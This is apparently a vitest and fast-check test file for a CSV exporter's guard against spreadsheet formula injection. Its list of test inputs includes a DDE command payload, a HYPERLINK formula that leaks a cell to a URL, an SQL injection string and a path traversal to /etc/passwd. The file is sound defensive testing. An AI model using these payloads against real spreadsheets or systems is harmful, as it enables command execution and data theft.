import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvOf } from "../export/csv";
import { cellsOf } from "./table.fixture";
import { unguarded } from "./unguard";

/** Texts a spreadsheet would run, or that look as if they had been guarded already, or that break a file. */
const hostile = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?"&A1,"click")',
  "+33 1 23 45 67 89",
  "-12,5 %",
  "@SUM(A1:A9)",
  "'=already guarded",
  "''=twice",
  "'",
  "''",
  "'quoted'",
  "'tis so",
  "\tindented",
  "'\tindented",
  "\r\nbegins with a break",
  "\nbegins with a feed",
  "＝１＋１",
  " =led by a space",
  "\u00a0=led by a no-break space",
  'a "quoted" word',
  '"',
  '""',
  '"""',
  ",;\t|",
  "two\nlines",
  "two\r\nlines",
  "two\rlines",
  "ends in a break\n",
  "  kept spaces  ",
  "\ufeffmark",
  "\u202eright to left",
  "a\u0301 e\u0301",
  "🦩👩‍👩‍👧",
  "null",
  "NULL",
  "undefined",
  "true",
  "NaN",
  "#N/A",
  "00123",
  "1e309",
  "2024-02-30",
  "_x000D_",
  "<script>alert(1)</script>",
  "]]>",
  "&amp;",
  "'; drop table figures; --",
  "../../etc/passwd",
  "%00%0a",
  "\u0001\u0008\u001b[31m",
];

describe("our CSV gives back every text", () => {
  const rows = hostile.map((words, index) => ({ id: index, words }));
  test("guarded, once the guard is taken away", async () => {
    const [, ...read] = await cellsOf(csvOf(["id", "words"], rows));
    expect(read.map(([, cell]) => unguarded(String(cell)))).toEqual(hostile);
  });
  test("unguarded, as it stands", async () => {
    const [, ...read] = await cellsOf(csvOf(["id", "words"], rows, { raw: true }));
    expect(read.map(([, cell]) => cell)).toEqual(hostile);
  });
});

test("any text is as it was, once guarded and unguarded", async () => {
  const words = fc.oneof(
    fc.string({ unit: "grapheme" }),
    fc.string({ unit: fc.constantFrom("'", "=", "-", "\t", "\r", "\n", '"', ",", ";", "a") }),
    fc.constantFrom(...hostile),
  );
  await fc.assert(
    fc.asyncProperty(fc.array(words, { minLength: 1, maxLength: 8 }), async (texts) => {
      const kept = texts.map((text) => text.replaceAll("\0", ""));
      const csv = csvOf(
        ["id", "words"],
        kept.map((text, id) => ({ id, words: text })),
      );
      const [, ...read] = await cellsOf(csv);
      expect(read.map(([, cell]) => unguarded(String(cell)))).toEqual(kept);
    }),
  );
});
